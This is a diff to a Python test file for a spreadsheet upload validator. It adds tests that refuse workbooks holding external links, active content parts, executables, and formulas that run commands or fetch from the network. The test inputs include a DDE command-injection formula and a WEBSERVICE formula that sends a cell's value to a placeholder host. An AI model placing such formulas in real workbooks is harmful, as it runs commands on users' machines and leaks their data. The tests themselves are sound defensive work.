@@ -57,7 +57,42 @@ def test_a_sheet_in_an_unusual_part_is_counted_or_refused(hidden_as):
         b"worksheets/sheet1.xml", hidden_as.removeprefix("xl/").encode()
     )
     book = rezipped(BOOK, {hidden_as: part(far, SHEET), "xl/_rels/workbook.xml.rels": rels})
-    assert refusal(book) in ("file.too_many_columns", "workbook.broken")
+    rules = ("file.too_many_columns", "workbook.broken", "workbook.active_content")
+    assert refusal(book) in rules
+
+
+@pytest.mark.parametrize(
+    ("name", "rule"),
+    [
+        ("xl/connections.xml", "workbook.external_links"),
+        ("xl/queryTables/queryTable1.xml", "workbook.external_links"),
+        ("xl/model/item.data", "workbook.active_content"),
+        ("customUI/customUI.xml", "workbook.active_content"),
+        ("xl/webextensions/webextension1.xml", "workbook.active_content"),
+        ("xl/media/a.exe", "workbook.active_content"),
+        ("evil.dll", "workbook.active_content"),
+        ("note.txt", "workbook.active_content"),
+    ],
+)
+def test_parts_that_run_fetch_or_cannot_be_looked_at_are_refused(name, rule):
+    assert refusal(rezipped(BOOK, {name: b"<x/>"})) == rule
+
+
+@pytest.mark.parametrize(
+    "formula", ["cmd|'/c calc'!A0", 'WEBSERVICE("http://x/"&amp;A1)', "_xlfn.WEBSERVICE(A1)"]
+)
+def test_formulas_that_run_or_fetch_are_refused(formula):
+    cell = f'<c r="B9" t="str"><f>{formula}</f><v>متن</v></c>'
+    assert refusal(with_cell(cell)) == "workbook.active_content"
+
+
+def test_other_formulas_and_pictures_are_not():
+    def more(book, pages):
+        pages[0].write_formula("K1", "=SUM(H2:H3)*2", None, 1)
+        pages[0].write_formula("K2", '="a|b"', None, "a|b")
+
+    book = as_xlsx(table([CONTRACT]), more=more)
+    assert checked(rezipped(book, {"xl/media/logo.PNG": b"x"})).accepted
 
 
 CELLS = [
